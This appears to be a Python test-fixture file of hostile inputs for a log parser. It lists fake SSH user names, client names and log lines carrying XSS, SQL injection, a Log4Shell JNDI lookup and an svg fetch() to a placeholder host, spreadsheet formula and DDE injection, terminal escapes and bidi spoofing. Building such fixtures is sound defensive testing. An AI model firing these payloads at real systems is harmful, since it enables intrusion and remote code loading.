"""Text that attacks whoever reads it: pages, terminals, spreadsheets, SQL, and the parser's own fields."""

from __future__ import annotations

ACCOUNTS: tuple[bytes, ...] = (
    b"root",
    b"admin",
    b"<script>alert(1)</script>",
    b"' OR '1'='1'; DROP TABLE records;--",
    b"\x1b[2J\x1b[31mADMIN\x1b[0m",
    "\u202enimda\u202c".encode(),
    b"operator from 192.0.2.50 port 22 ssh2",
    b'=HYPERLINK("http://198.51.100.9/","open")',
    b"{{7*7}}${jndi:ldap://198.51.100.9/a}",
    "adm\u200bin".encode(),
    b"m\xf6nitor",
    b"A" * 300,
)
"""User names a stranger tried over SSH: markup, SQL, terminal codes, bidirectional text, a formula, Latin-1, length."""

CLIENTS: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    'app-tls-1" connected and authenticated : 192.0.2.101/40000',
    "\u202egnp.exe",
    "'; DELETE FROM findings; --",
)
"""Names that NTLS printed for unregistered clients."""

STRANGERS: tuple[tuple[str, bytes], ...] = (
    ("telemetryd", b"<svg/onload=fetch('http://198.51.100.9/')>"),
    ("telemetryd", b"\x1b]0;owned\x07\x1b[1A\x1b[2K all is well"),
    ("webhookd", b'{"severity":"critical","note":"</style><script>alert(2)</script>"}'),
    ("webhookd", b"=cmd|' /C calc'!A0"),
    ("telemetryd", "price \u2066\u202edesrever\u2069 \U0001f512 \ufeff".encode()),
    ("webhookd", b"%s%s%n %2e%2e%2f \\x00 \xff\xfe broken utf-8"),
    ("telemetryd", b"info : 0 : Command: hsm zeroize  : admin : Console, said nobody"),
)
"""Lines of programs that no Luna has."""
